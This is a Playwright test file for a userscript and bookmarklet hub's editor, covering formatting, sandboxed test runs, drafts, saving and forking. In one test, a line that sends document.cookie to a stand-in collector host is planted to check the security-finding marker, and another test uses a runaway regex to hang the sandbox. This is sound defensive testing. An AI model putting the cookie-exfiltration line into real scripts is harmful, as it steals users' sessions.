import { expect, type Page, test } from "@playwright/test";
import { expectNoViolations } from "../support/axe.ts";
import { openCodeTab, showCodeTab } from "../support/code-tab.ts";
import { hubOrigin, signIn, watchForErrors } from "../support/hub.ts";
import { untilLive } from "../support/live-page.ts";
import { storedRows } from "../support/stored-rows.ts";

const HEAD = `// ==UserScript==
// @name         Tea notes
// @match        https://tea.example/*
// @grant        GM_addStyle
// ==/UserScript==
`;
const UNTIDY = `${HEAD}const rows=document.querySelectorAll( "table tr" );console.log("rows",rows.length)
GM_addStyle("h1 { color: darkred }");document.querySelector("h1").textContent="Tea"
`;
const TIDY = `${HEAD}const rows = document.querySelectorAll("table tr");
console.log("rows", rows.length);
GM_addStyle("h1 { color: darkred }");
document.querySelector("h1").textContent = "Tea";
`;

const code = (page: Page) => page.getByRole("textbox", { name: /^(Bookmarklet|Userscript) Code$/ });
const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
const tab = (page: Page, name: string) => page.getByRole("tab", { name, exact: true });
const notice = (page: Page, text: string) => page.locator("[data-sonner-toast]").filter({ hasText: text });
const testing = (page: Page) => page.getByRole("region", { name: "Test run" });

/** Replaces the text of the editor, which shows it line by line. */
async function write(page: Page, text: string): Promise<void> {
	await code(page).click();
	await page.keyboard.press("Control+a");
	await page.keyboard.insertText(text);
}

/** Axe would have to run in the sandbox as well, whose page is no part of the hub: it is taken out, as the next run does. */
async function expectNoViolationsAround(page: Page, what: string): Promise<void> {
	await page.locator("iframe").evaluate((frame) => frame.remove());
	await expectNoViolations(page, what);
}

/** What the page's console shows of the sandbox: Chromium does not know the directive, and the script under test throws. */
const OF_SANDBOX = /'webrtc'|tea\.example|out of tea/;
const lines = (page: Page) => code(page).locator(".cm-line").allInnerTexts();

test("a script is completed, formatted, marked, tested, saved after a sign-in by itself, and forked", async ({
	page,
}) => {
	const errors = watchForErrors(page);
	// The function asks a model; its own tests are beside it.
	await page.route("**/functions/v1/generate-tags", (route) =>
		route.fulfill({ json: { category: "productivity", tags: ["tea", "table"], confidence: 0.87 } }),
	);
	await openCodeTab(page);
	await page.getByLabel("Title").fill("Tea notes of a table");
	await page.getByLabel("Description").fill("Counts the rows of a table, and colors the heading.");

	// Completion, then Format, which undo takes back.
	await code(page).click();
	await code(page).pressSequentially("// ==UserScript==\n// @na");
	await page
		.getByRole("option", { name: /^@name/ })
		.first()
		.click();
	await expect(code(page)).toContainText(/@name\s*$/);
	await write(page, UNTIDY);
	await button(page, "Format").click();
	await expect(page.getByText("The code is formatted. Undo takes it back.")).toBeVisible();
	expect(await lines(page)).toEqual(TIDY.split("\n").map((line) => (line === "" ? "\n" : line)));
	await button(page, "Format").click();
	await expect(page.getByText("The code is already formatted.")).toBeVisible();

	// A finding in the gutter leads to the security check, and back to its line.
	await write(page, `${TIDY}fetch("https://collector.example/?" + document.cookie);\n`);
	const mark = page.locator("[data-code-editor] [data-finding]:not([aria-label=''])");
	await expect(mark.first()).toHaveAttribute("aria-label", /^Line 10: (Critical|High): /);
	await mark.first().click();
	await expect(tab(page, "Security")).toHaveAttribute("aria-selected", "true");
	await page.getByRole("button", { name: "Go to line 10 in the editor" }).first().click();
	await expect(code(page)).toBeFocused();

	// In the sandbox it throws, then it does not.
	await write(page, `${TIDY}setTimeout(() => { throw new TypeError("out of tea"); });\n`);
	await tab(page, "Testing").click();
	await expect(testing(page)).toContainText("@match does not include the test URL");
	await page.getByRole("textbox", { name: "Test URL" }).fill("https://tea.example/green");
	await expect(testing(page)).not.toContainText("@match does not include the test URL");
	await expect(testing(page)).toContainText("Install the Scriptorium extension");
	await button(page, "Run Test").click();
	await expect(notice(page, "Failed to test bookmarklet")).toBeVisible();
	await expect(testing(page).getByText("Failed", { exact: true })).toBeVisible();
	await expect(testing(page)).toContainText("Ran in the sandbox, on the sample page.");
	await expect(testing(page).getByRole("list", { name: "Errors" })).toContainText("out of tea");
	await expectNoViolationsAround(page, "a test run that failed");

	await tab(page, "Editor").click();
	await write(page, `${TIDY}fetch("https://tea.example/price").catch(() => console.warn("no price"));\n`);
	await tab(page, "Testing").click();
	await button(page, "Run Test").click();
	await expect(notice(page, "Test completed successfully")).toBeVisible();
	await expect(testing(page).getByText("Success", { exact: true })).toBeVisible();
	await expect(testing(page)).toContainText(/Execution time\s*[\d.,]+ ms/);
	await expect(testing(page)).toContainText(/DOM mutations\s*[2-9]/);
	const sample = page.frameLocator("iframe[title='Sample page of the sandbox']");
	await expect(sample.getByRole("heading", { level: 1, name: "Tea", exact: true })).toBeVisible();
	await tab(page, "Console Logs").click();
	await expect(page.getByRole("list", { name: "Console Logs" })).toContainText("rows 4");
	await expect(page.getByRole("list", { name: "Console Logs" })).toContainText("no price");
	await tab(page, "Network").click();
	await expect(page.getByRole("row").filter({ hasText: "https://tea.example/price" })).toContainText("no answer");
	await expectNoViolationsAround(page, "a test run that succeeded");

	// Signed out, Save asks for sign-in and then happens by itself; tags and category are generated on the way.
	await tab(page, "Editor").click();
	await write(page, TIDY);
	await button(page, "Create Userscript").click();
	await page.getByRole("dialog", { name: "Sign in required" }).getByRole("button", { name: "Sign in" }).click();
	await page.waitForURL(/\/auth$/);
	await page.getByRole("button", { name: /google/i }).click();
	await page.getByRole("button", { name: /Arthur Author/ }).click();
	await expect(notice(page, "Generated tags with 87% confidence")).toBeVisible();
	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
	await expect(page.getByRole("heading", { level: 1, name: "Tea notes of a table" })).toBeVisible();
	const id = new URL(page.url()).pathname.split("/").at(-1) ?? "";
	const tags = await storedRows<{ tags: { name: string } }>(page, "bookmarklet_tags", {
		select: "tags(name)",
		bookmarklet_id: `eq.${id}`,
	});
	expect(tags.map((row) => row.tags.name).sort()).toEqual(["table", "tea"]);

	await page.goto(`${hubOrigin()}/bookmarklet/${id}/edit`);
	await button(page, "Fork").click();
	await page.waitForURL(/\/create\?edit=[0-9a-f-]{36}$/);
	await expect(notice(page, "Bookmarklet forked successfully")).toBeVisible();
	expect(page.url()).not.toContain(id);
	await expect(page.getByLabel("Title")).toHaveValue("Tea notes of a table");
	await expect(code(page)).toContainText("Tea notes");
	expect(errors.filter((error) => !OF_SANDBOX.test(error))).toEqual([]);
});

test("code that never ends blocks the sandbox only; a page that is closed meanwhile has its draft", {
	tag: "@soak",
}, async ({ page }) => {
	await openCodeTab(page);
	await page.getByLabel("Title").fill("Searches for ever");
	// A search that no loop guard can end.
	await write(page, "/^(a+)+$/.test('a'.repeat(60) + 'b');");
	await tab(page, "Testing").click();
	await button(page, "Run Test").click();
	await expect(testing(page)).toContainText("Running…");
	// The hub's own page goes on: it draws, and takes what is typed.
	await tab(page, "Editor").click();
	await page.getByLabel("Description").fill("Typed while the sandbox was blocked.");
	await tab(page, "Testing").click();
	await expect(testing(page).getByText("Failed", { exact: true })).toBeVisible({ timeout: 20_000 });
	await expect(testing(page).getByRole("list", { name: "Errors" })).toContainText("does not answer any more");
	await button(page, "Run Test").click();
	await expect(testing(page)).toContainText("Running…");
	await page.reload();
	await button(page, "Restore draft").click();
	await expect(page.getByLabel("Description")).toHaveValue("Typed while the sandbox was blocked.");
});

test("the create page loads the editor, the formatter and the weights of the classifier when they are needed", {
	tag: "@soak",
}, async ({ page }) => {
	const large = /\/(code-editor|format-worker|template-mode|analysis-worker)-[^/]*\.js$/;
	const loaded = new Set<string>();
	page.on("request", (request) => {
		const name = large.exec(new URL(request.url()).pathname)?.[1];
		if (name !== undefined) loaded.add(name);
	});
	await page.goto(`${hubOrigin()}/create`);
	await untilLive(page);
	await expect(page.getByRole("heading", { name: "Have a unique idea?" })).toBeVisible();
	await page.waitForLoadState("networkidle");
	expect([...loaded]).toEqual([]);
	await page.getByRole("textbox", { name: "What should the script do?" }).fill("Play all videos at 1.5x speed");
	await button(page, "Generate Script").click();
	await expect(page.getByRole("region", { name: "Generated code" })).toBeVisible();
	await expect.poll(() => [...loaded].sort()).toEqual(["analysis-worker", "template-mode"]);
	await button(page, "Continue to Finalize").click();
	await expect(code(page)).toContainText("==UserScript==");
	await expect.poll(() => [...loaded].sort()).toEqual(["analysis-worker", "code-editor", "template-mode"]);
	await button(page, "Format").click();
	await expect(page.getByText(/^The code is (already )?formatted/)).toBeVisible();
	expect(loaded).toContain("format-worker");
});

test("offline a save keeps what was typed, and what is typed during a save becomes the draft of it", {
	tag: "@soak",
}, async ({ page }) => {
	await signIn(page, "Arthur Author", "/create");
	await showCodeTab(page);
	await page.getByLabel("Title").fill("Saved in a tunnel");
	await page.getByLabel("Description").fill("Counts the rows of a table.");
	await page.getByLabel("Category").selectOption("productivity");
	await page.getByLabel("Tags").fill("tea");
	await write(page, TIDY);
	await page.context().setOffline(true);
	await button(page, "Create Userscript").click();
	const refusal = page.getByRole("alert").filter({ hasText: "Failed to save bookmarklet" });
	await expect(refusal).toContainText("The hub cannot be reached. Check your connection, then try again.");
	await expect(refusal).toContainText("What you have typed is still here.");
	await expect(page.getByLabel("Title")).toHaveValue("Saved in a tunnel");
	await expect(code(page)).toContainText("Tea notes");
	await page.context().setOffline(false);

	const held = Promise.withResolvers<void>();
	await page.route("**/rpc/save_script", async (route) => {
		await held.promise;
		await route.continue();
	});
	await button(page, "Create Userscript").click();
	await expect(button(page, "Creating...")).toBeVisible();
	await code(page).click();
	await page.keyboard.press("Control+End");
	await page.keyboard.insertText("void 'typed late';\n");
	held.resolve();
	const kept = notice(page, "What you typed while it was being saved is kept as an unsaved draft.");
	await kept.getByRole("button", { name: "Go on editing" }).click();
	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}\/edit$/);
	await expect(code(page)).not.toContainText("typed late");
	await button(page, "Restore draft").click();
	await expect(code(page)).toContainText("typed late");
	await button(page, "Update Userscript").click();
	await expect(notice(page, "Bookmarklet updated")).toBeVisible();
	// The version that it was based on was the latest one: nothing was in conflict.
	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
});

test("two tabs of a new script keep their own drafts, also over a reload", { tag: "@soak" }, async ({ page }) => {
	await openCodeTab(page);
	await page.getByLabel("Title").fill("Typed in the first");
	const second = await page.context().newPage();
	await openCodeTab(second);
	await second.getByLabel("Title").fill("Typed in the second");
	for (const each of [page, second]) await each.reload();
	for (const [each, title] of [
		[page, "Typed in the first"],
		[second, "Typed in the second"],
	] as const) {
		await untilLive(each);
		// A browser may restore what stood in the form: then there is nothing to offer.
		const [field, restore] = [each.getByLabel("Title"), button(each, "Restore draft")];
		await expect.poll(async () => (await restore.isVisible()) || (await field.inputValue()) === title).toBe(true);
		if (await restore.isVisible()) await restore.click();
		await expect(field).toHaveValue(title);
	}
});

test("a script is formatted and tested by keyboard alone", { tag: "@soak" }, async ({ page }) => {
	const errors = watchForErrors(page);
	await openCodeTab(page);
	// Before, a plain field takes what is typed, which explains no names.
	await page.locator("[data-code-editor]").waitFor();
	await code(page).focus();
	await page.keyboard.type("// ==UserScript==\n// @gra");
	// The list explains its chosen name, and goes away by Escape; Enter takes the name only after a pause, as fast writers mean a line break.
	await expect(page.getByRole("option", { name: /^@grant/ }).first()).toHaveAttribute("aria-selected", "true");
	await page.keyboard.press("Escape");
	await expect(page.getByRole("option", { name: /^@grant/ })).toHaveCount(0);
	await page.keyboard.press("Control+a");
	// A line that is wider than the editor makes it scroll.
	await page.keyboard.insertText(`${UNTIDY}// ${"steep ".repeat(60)}\n`);
	await expectNoViolations(page, "the editor with a long line");
	await button(page, "Format").focus();
	await page.keyboard.press("Enter");
	await expect(page.getByText("The code is formatted. Undo takes it back.")).toBeVisible();
	await tab(page, "Editor").focus();
	await page.keyboard.press("ArrowRight");
	await expect(tab(page, "Security")).toBeFocused();
	await page.keyboard.press("ArrowRight");
	await expect(tab(page, "Testing")).toHaveAttribute("aria-selected", "true");
	await page.getByRole("textbox", { name: "Test URL" }).focus();
	// Enter in the field starts the test.
	await page.keyboard.press("Enter");
	await expect(testing(page).getByText("Success", { exact: true })).toBeVisible();
	await tab(page, "Live Preview").focus();
	await page.keyboard.press("ArrowLeft");
	await expect(tab(page, "Effects")).toBeFocused();
	await page.keyboard.press("ArrowLeft");
	await expect(tab(page, "Network")).toBeFocused();
	await page.keyboard.press("ArrowLeft");
	await expect(page.getByRole("list", { name: "Console Logs" })).toContainText("rows 4");
	expect(errors.filter((error) => !OF_SANDBOX.test(error))).toEqual([]);
});
